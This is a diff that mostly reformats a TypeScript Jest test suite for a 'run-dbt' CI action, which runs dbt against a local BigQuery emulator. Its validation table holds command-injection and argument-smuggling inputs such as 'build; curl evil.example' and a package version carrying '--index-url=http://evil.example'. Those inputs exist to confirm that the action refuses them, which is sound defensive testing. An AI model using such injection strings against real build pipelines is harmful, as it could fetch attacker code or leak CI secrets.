@@ -1,4 +1,7 @@
-/** The run-dbt bundle with a real dbt against the local cloud's BigQuery. Few runs with many claims each: starting dbt is what takes the time. */
+/**
+ * The run-dbt bundle with a real dbt against the local cloud's BigQuery. Few runs with many claims each:
+ * starting dbt is what takes the time.
+ */
 import { afterAll, beforeAll, describe, expect, it } from '@jest/globals'
 import { chmod, mkdir, readdir, readFile, stat, writeFile } from 'node:fs/promises'
 import { delimiter, dirname, join } from 'node:path'
@@ -17,18 +20,41 @@ let dbtPath: string
 
 const FILES: Record<string, string> = {
   'dbt_project.yml': [
-    'name: tiny', 'version: 1.0.0', 'config-version: 2', 'profile: tiny', 'vars: { word: none }',
-    'on-run-start: "{{ show_surroundings() }}"', '',
+    'name: tiny',
+    'version: 1.0.0',
+    'config-version: 2',
+    'profile: tiny',
+    'vars: { word: none }',
+    'on-run-start: "{{ show_surroundings() }}"',
+    '',
   ].join('\n'),
-  'macros/show.sql': "{% macro show_surroundings() %}{{ log('INPUTS=' ~ env_var('INPUT_COMMANDS', 'absent') ~ ' TOKEN=' ~ env_var('ACTIONS_ID_TOKEN_REQUEST_TOKEN', 'absent') ~ ' WORD=' ~ var('word'), info=True) }}{% endmacro %}\n",
-  'models/good/people.sql': 'select 1 as id, \'a\' as name\nunion all\nselect 2, null\n',
+  'macros/show.sql':
+    "{% macro show_surroundings() %}{{ log('INPUTS=' ~ env_var('INPUT_COMMANDS', 'absent') ~ ' TOKEN=' ~ env_var('ACTIONS_ID_TOKEN_REQUEST_TOKEN', 'absent') ~ ' WORD=' ~ var('word'), info=True) }}{% endmacro %}\n",
+  'models/good/people.sql': "select 1 as id, 'a' as name\nunion all\nselect 2, null\n",
   'models/good/people.yml': [
-    'models:', '  - name: people', '    columns:', '      - name: id', '        data_tests:', '          - unique', '      - name: name', '        data_tests:', '          - not_null: { config: { severity: warn } }', '',
+    'models:',
+    '  - name: people',
+    '    columns:',
+    '      - name: id',
+    '        data_tests:',
+    '          - unique',
+    '      - name: name',
+    '        data_tests:',
+    '          - not_null: { config: { severity: warn } }',
+    '',
   ].join('\n'),
-  'models/bad/broken.sql': '{{ config(materialized="table") }}\nselect\n  no_such_column\nfrom {{ ref("people") }}\n',
+  'models/bad/broken.sql':
+    '{{ config(materialized="table") }}\nselect\n  no_such_column\nfrom {{ ref("people") }}\n',
   'models/bad/after_broken.sql': 'select * from {{ ref("broken") }}\n',
   'models/bad/twice.sql': 'select 1 as id union all select 1\n',
-  'models/bad/twice.yml': ['models:', '  - name: twice', '    columns:', '      - name: id', '        data_tests: [unique]', ''].join('\n'),
+  'models/bad/twice.yml': [
+    'models:',
+    '  - name: twice',
+    '    columns:',
+    '      - name: id',
+    '        data_tests: [unique]',
+    '',
+  ].join('\n'),
 }
 
 beforeAll(async () => {
@@ -48,43 +74,97 @@ async function write(folder: string, files: Record<string, string>): Promise<voi
     await writeFile(join(job.workspace, folder, name), text)
   }
 }
-function run(inputs: Record<string, string>, env: Record<string, string> = {}, onStart?: RunOptions['onStart']): Promise<RunResult> {
-  return runBundle('run-dbt', { job, onStart, env: { ...job.env, PATH: dbtPath, ...env }, with: { 'project-dir': PROJECT_DIR, dataset: 'caec_analytics', location: 'us-central1', ...inputs } })
+function run(
+  inputs: Record<string, string>,
+  env: Record<string, string> = {},
+  onStart?: RunOptions['onStart'],
+): Promise<RunResult> {
+  return runBundle('run-dbt', {
+    job,
+    onStart,
+    env: { ...job.env, PATH: dbtPath, ...env },
+    with: { 'project-dir': PROJECT_DIR, dataset: 'caec_analytics', location: 'us-central1', ...inputs },
+  })
 }
-const errorOf = (result: RunResult) => result.annotations.filter(({ kind }) => kind === 'error').map(({ message }) => message).join('\n')
-const placed = (result: RunResult) => result.annotations.filter(({ properties }) => properties.includes('file=')).map(({ kind, properties, message }) => ({ kind, place: /file=([^,]+),line=(\d+)/.exec(properties)?.slice(1).join(':'), message }))
-const tables = async (): Promise<string[]> => ((await cloud.api('data-eng', 'GET', '/datasets/caec_analytics/tables')).body.tables ?? []).map(({ tableReference }: { tableReference: { tableId: string } }) => tableReference.tableId).sort()
+const errorOf = (result: RunResult) =>
+  result.annotations
+    .filter(({ kind }) => kind === 'error')
+    .map(({ message }) => message)
+    .join('\n')
+const placed = (result: RunResult) =>
+  result.annotations
+    .filter(({ properties }) => properties.includes('file='))
+    .map(({ kind, properties, message }) => ({
+      kind,
+      place: /file=([^,]+),line=(\d+)/.exec(properties)?.slice(1).join(':'),
+      message,
+    }))
+const tables = async (): Promise<string[]> =>
+  ((await cloud.api('data-eng', 'GET', '/datasets/caec_analytics/tables')).body.tables ?? [])
+    .map(({ tableReference }: { tableReference: { tableId: string } }) => tableReference.tableId)
+    .sort()
 
 describe('run-dbt, when all is well', () => {
   let result: RunResult
   beforeAll(async () => {
-    result = await run({ commands: 'build --select good\ndbt run --select people', vars: JSON.stringify({ word: HOSTILE }) })
+    result = await run({
+      commands: 'build --select good\ndbt run --select people',
+      vars: JSON.stringify({ word: HOSTILE }),
+    })
   }, 120_000)
 
   it('builds models, tests them, and gives counts and results', async () => {
     expect([result.exitCode, errorOf(result)]).toEqual([0, ''])
-    expect(result.outputs).toMatchObject({ status: 'success', 'nodes-passed': expect.stringMatching(/^[345]$/), 'nodes-failed': '0', 'nodes-warned': '1', 'nodes-skipped': '0' })
+    expect(result.outputs).toMatchObject({
+      status: 'success',
+      'nodes-passed': expect.stringMatching(/^[345]$/),
+      'nodes-failed': '0',
+      'nodes-warned': '1',
+      'nodes-skipped': '0',
+    })
     expect(await tables()).toEqual(['people'])
     const folder = result.outputs['results-path']!
-    expect((await readdir(folder)).sort()).toEqual(expect.arrayContaining(['0.json', '0.manifest.json', '0.run_results.json', '1.json', '1.run_results.json']))
-    expect(JSON.parse(await readFile(join(folder, '0.run_results.json'), 'utf8')).results.length).toBeGreaterThanOrEqual(3)
+    expect((await readdir(folder)).sort()).toEqual(
+      expect.arrayContaining([
+        '0.json',
+        '0.manifest.json',
+        '0.run_results.json',
+        '1.json',
+        '1.run_results.json',
+      ]),
+    )
+    expect(
+      JSON.parse(await readFile(join(folder, '0.run_results.json'), 'utf8')).results.length,
+    ).toBeGreaterThanOrEqual(3)
     expect(result.summary).toContain('dbt: succeeded')
     expect(result.summary).toContain('people')
   })
 
   it('shows a warning where its test stands in the YAML', () => {
-    expect(placed(result)).toEqual([{ kind: 'warning', place: `${PROJECT_DIR}/models/good/people.yml:7`, message: expect.stringContaining('1 result') }])
+    expect(placed(result)).toEqual([
+      {
+        kind: 'warning',
+        place: `${PROJECT_DIR}/models/good/people.yml:7`,
+        message: expect.stringContaining('1 result'),
+      },
+    ])
   })
 
   it('keeps its profile outside the workspace, readable by nobody else, and without a secret', async () => {
     const profile = join(result.outputs['results-path']!, '../profiles/profiles.yml')
     expect((await stat(profile)).mode & 0o777).toBe(0o600)
     expect(profile.startsWith(job.workspace)).toBe(false)
-    expect(JSON.parse(await readFile(profile, 'utf8')).tiny.outputs.ci).toMatchObject({ method: 'oauth', project: 'caec-local', dataset: 'caec_analytics', location: 'us-central1', threads: 4 })
+    expect(JSON.parse(await readFile(profile, 'utf8')).tiny.outputs.ci).toMatchObject({
+      method: 'oauth',
+      project: 'caec-local',
+      dataset: 'caec_analytics',
+      location: 'us-central1',
+      threads: 4,
+    })
     expect(await readFile(profile, 'utf8')).not.toMatch(/ya29|eyJ|token/)
   })
 
-  it('hands dbt neither its inputs nor the job\'s right to tokens', () => {
+  it("hands dbt neither its inputs nor the job's right to tokens", () => {
     expect(result.log).toContain('INPUTS=absent TOKEN=absent')
   })
 
@@ -105,21 +185,36 @@ describe('run-dbt, when work fails', () => {
   it('fails the step, names what failed, and stops at the first command that fails', () => {
     expect(result.exitCode).toBe(1)
     expect(result.outputs).toMatchObject({ status: 'failure', 'nodes-failed': '2', 'nodes-skipped': '1' })
-    expect(errorOf(result)).toMatch(/Running dbt build --select bad: 2 of \d+ nodes failed: .*(broken|unique_twice_id)/)
+    expect(errorOf(result)).toMatch(
+      /Running dbt build --select bad: 2 of \d+ nodes failed: .*(broken|unique_twice_id)/,
+    )
     expect(result.log).not.toContain('> dbt run --select never_reached')
     expect(result.summary).toContain('dbt: failed')
   })
 
   it('points at the line of the model and at the column of the test', () => {
-    expect(placed(result)).toEqual(expect.arrayContaining([
-      { kind: 'error', place: `${PROJECT_DIR}/models/bad/broken.sql:3`, message: expect.stringContaining('no_such_column') },
-      { kind: 'error', place: `${PROJECT_DIR}/models/bad/twice.yml:4`, message: expect.stringContaining('1 result') },
-    ]))
+    expect(placed(result)).toEqual(
+      expect.arrayContaining([
+        {
+          kind: 'error',
+          place: `${PROJECT_DIR}/models/bad/broken.sql:3`,
+          message: expect.stringContaining('no_such_column'),
+        },
+        {
+          kind: 'error',
+          place: `${PROJECT_DIR}/models/bad/twice.yml:4`,
+          message: expect.stringContaining('1 result'),
+        },
+      ]),
+    )
     expect(placed(result).length).toBe(2)
   })
 
   it('says in one sentence what a project that cannot be compiled has wrong', async () => {
-    await write('uncompiled', { 'dbt_project.yml': 'name: uncompiled\nversion: 1.0.0\nprofile: uncompiled\n', 'models/open.sql': 'select {{ 1 + }} as a\n' })
+    await write('uncompiled', {
+      'dbt_project.yml': 'name: uncompiled\nversion: 1.0.0\nprofile: uncompiled\n',
+      'models/open.sql': 'select {{ 1 + }} as a\n',
+    })
     const broken = await run({ 'project-dir': 'uncompiled', commands: 'build' })
     expect([broken.exitCode, broken.outputs.status]).toEqual([1, 'failure'])
     expect(errorOf(broken)).toMatch(/Running dbt build: CompilationError: [\s\S]*open/)
@@ -130,31 +225,52 @@ describe('run-dbt, when work fails', () => {
 it('lists in a dry run what each command would select, and asks the warehouse to change nothing', async () => {
   exchanges.length = 0
   const before = await tables()
-  const result = await run({ commands: 'build --select good\nrun-operation drop_everything', 'dry-run': 'true' })
+  const result = await run({
+    commands: 'build --select good\nrun-operation drop_everything',
+    'dry-run': 'true',
+  })
   expect([result.exitCode, errorOf(result), result.outputs.status]).toEqual([0, '', 'dry-run'])
   expect(result.summary).toContain('tiny.good.people')
-  expect(result.summary).toMatch(/a dry run does not start run&#45;operation|a dry run does not start run-operation/)
+  expect(result.summary).toMatch(
+    /a dry run does not start run&#45;operation|a dry run does not start run-operation/,
+  )
   expect(exchanges.filter(({ service, method }) => service === 'bigquery' && method !== 'GET')).toEqual([])
   expect(await tables()).toEqual(before)
 }, 120_000)
 
 it('cancels the query that runs when the run is cancelled', async () => {
-  await write('endless', { 'dbt_project.yml': 'name: endless\nversion: 1.0.0\nprofile: endless\n', 'models/long.sql': '{{ config(materialized="table") }}\nselect count(*) as n from unnest(generate_array(1, 100000)) a, unnest(generate_array(1, 100000)) b, unnest(generate_array(1, 100000)) c where mod(a + b * c, 7) = 3\n' })
-  const running = async () => ((await cloud.api('ops', 'GET', '/jobs?stateFilter=running&allUsers=true')).body.jobs ?? []) as { id: string; jobReference: { jobId: string } }[]
+  await write('endless', {
+    'dbt_project.yml': 'name: endless\nversion: 1.0.0\nprofile: endless\n',
+    'models/long.sql':
+      '{{ config(materialized="table") }}\nselect count(*) as n from unnest(generate_array(1, 100000)) a, unnest(generate_array(1, 100000)) b, unnest(generate_array(1, 100000)) c where mod(a + b * c, 7) = 3\n',
+  })
+  const running = async () =>
+    ((await cloud.api('ops', 'GET', '/jobs?stateFilter=running&allUsers=true')).body.jobs ?? []) as {
+      id: string
+      jobReference: { jobId: string }
+    }[]
   let jobId = ''
   const result = await run({ 'project-dir': 'endless', commands: 'run' }, {}, (child) => {
-    const timer = setInterval(() => void running().then(([found]) => {
-      if (found === undefined || jobId !== '') return
-      jobId = found.jobReference.jobId
-      clearInterval(timer)
-      child.kill('SIGINT')
-    }), 200)
+    const timer = setInterval(
+      () =>
+        void running().then(([found]) => {
+          if (found === undefined || jobId !== '') return
+          jobId = found.jobReference.jobId
+          clearInterval(timer)
+          child.kill('SIGINT')
+        }),
+      200,
+    )
     child.once('exit', () => clearInterval(timer))
   })
   expect(result.exitCode).toBe(130)
-  const results = join(/\/.*\/run-dbt-\w+/.exec(/--profiles-dir '(.*?)'/.exec(result.log)![1]!)![0], 'results')
+  const results = join(
+    /\/.*\/run-dbt-\w+/.exec(/--profiles-dir '(.*?)'/.exec(result.log)![1]!)![0],
+    'results',
+  )
   // dbt outlives the action for the moment it takes to cancel; what it writes last says that it has ended.
-  for (let tries = 0; tries < 300 && !(await readdir(results)).includes('0.json'); tries += 1) await new Promise((resolve) => setTimeout(resolve, 200))
+  for (let tries = 0; tries < 300 && !(await readdir(results)).includes('0.json'); tries += 1)
+    await new Promise((resolve) => setTimeout(resolve, 200))
   expect(JSON.parse(await readFile(join(results, '0.json'), 'utf8'))).toMatchObject({ success: false })
   const { body } = await cloud.api('ops', 'GET', `/jobs/${jobId}?location=us-central1`)
   expect(body.status).toMatchObject({ state: 'DONE', errorResult: { reason: 'stopped' } })
@@ -164,7 +280,12 @@ it('cancels the query that runs when the run is cancelled', async () => {
 describe('run-dbt without a dbt on PATH', () => {
   it('says that there is no Python either', async () => {
     const result = await run({ commands: 'build' }, { PATH: join(job.temp, 'nothing here') })
-    expect([result.exitCode, errorOf(result)]).toEqual([1, expect.stringContaining('Looking for Python: there is none on PATH to install dbt with; add actions/setup-python before this step.')])
+    expect([result.exitCode, errorOf(result)]).toEqual([
+      1,
+      expect.stringContaining(
+        'Looking for Python: there is none on PATH to install dbt with; add actions/setup-python before this step.',
+      ),
+    ])
   })
 
   it('installs the exact versions with the Python that is there, and says it when that fails', async () => {
@@ -175,7 +296,9 @@ describe('run-dbt without a dbt on PATH', () => {
     const result = await run({ commands: 'build' }, { PATH: `${bin}${delimiter}/nonexistent` })
     expect(result.exitCode).toBe(1)
     expect(result.log).toContain('Installing dbt-core 1.11.16, dbt-bigquery 1.12.1 (no dbt on PATH).')
-    expect(errorOf(result)).toMatch(/Installing 1\.11\.16 of dbt-core: python3 ended with exit code 3; is the package index reachable and does this Python have venv\?/)
+    expect(errorOf(result)).toMatch(
+      /Installing 1\.11\.16 of dbt-core: python3 ended with exit code 3; is the package index reachable and does this Python have venv\?/,
+    )
     expect(result.outputs.status).toBe('failure')
   })
 })
@@ -185,13 +308,21 @@ describe('run-dbt refuses', () => {
     ['variables that are no object', { vars: '["a"]' }, 'input vars'],
     ['variables that are no JSON', { vars: '{a: 1}' }, 'input vars'],
     ['a verb it does not run', { commands: 'clean' }, '"clean" is not a dbt command this action runs'],
-    ['something behind the command', { commands: 'build; curl evil.example' }, '"build;" is not a dbt command this action runs'],
+    [
+      'something behind the command',
+      { commands: 'build; curl evil.example' },
+      '"build;" is not a dbt command this action runs',
+    ],
     ['another profile', { commands: 'build --profiles-dir /tmp/evil' }, '--profiles-dir'],
     ['another profile, spelled with =', { commands: 'build --profiles-dir=/tmp/evil' }, '--profiles-dir'],
     ['a project outside the workspace', { 'project-dir': '../elsewhere' }, 'is outside the workspace'],
     ['a folder without a project', { 'project-dir': '.' }, 'dbt_project.yml cannot be read'],
     ['a dataset that is no name', { dataset: 'a.b`' }, 'is not a dataset name'],
-    ['a version that is a requirement', { 'dbt-core-version': '1.11.16 --index-url=http://evil.example' }, 'is not an exact 1.x version'],
+    [
+      'a version that is a requirement',
+      { 'dbt-core-version': '1.11.16 --index-url=http://evil.example' },
+      'is not an exact 1.x version',
+    ],
   ])('%s', async (_, inputs, words) => {
     const result = await run({ commands: 'build', ...inputs })
     expect([result.exitCode, errorOf(result)]).toEqual([1, expect.stringContaining(words)])
